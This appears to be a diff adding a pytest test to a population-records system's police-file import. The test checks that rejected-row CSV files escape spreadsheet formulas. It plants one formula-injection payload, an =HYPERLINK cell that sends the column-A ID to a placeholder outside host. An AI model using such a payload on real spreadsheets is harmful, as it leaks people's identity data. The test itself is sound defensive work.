@@ -267,3 +267,37 @@ def test_rejected_rows_stay_in_protected_storage_and_leave_only_on_request(regio
     assert (entry.object_id, entry.detail["to"], entry.actor_username) == (
         str(job.pk), "file:for-the-clerk.csv", "system:import_police",
     )  # fmt: skip
+
+
+def test_the_rejected_rows_file_carries_no_formula_and_reads_back_as_typed(regions, codes, population, tmp_path):
+    """A cell that Excel would run (=HYPERLINK sending the plaintext ID in
+    column A to an outside host) is escaped in the rejected-rows file; the
+    corrected file imports its values as typed (issue 14 item 4)."""
+    import csv
+
+    from pims.integration.format import HEADERS
+
+    _g, pop = population(per_village=5)
+    path = tmp_path / "extract.csv"
+    write_police_file(pop, path)
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    evil = '=HYPERLINK("http://outside.example/?"&A2,"点击")'
+    rows = list(csv.reader(lines))
+    rows[1][HEADERS.index("姓名")] = evil
+    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
+        csv.writer(fh).writerows(rows)
+    job = police_import(actor=None, path=path)
+    assert job.rows_rejected >= 1
+    with open(rejected_path(job), encoding="utf-8-sig", newline="") as fh:
+        rejected = list(csv.reader(fh))
+    written = [cell for row in rejected for cell in row]
+    assert "'" + evil in written and evil not in written
+    assert not [c for c in written if c and c[0] in "=@\t\r"]
+
+    again = tmp_path / "corrected.csv"
+    again.write_bytes(rejected_path(job).read_bytes())
+    second = police_import(actor=None, path=again)
+    with open(rejected_path(second), encoding="utf-8-sig", newline="") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert header.count("错误说明") == 1
+    assert "'" + evil in [cell for row in rows for cell in row]  # read as typed, escaped again once
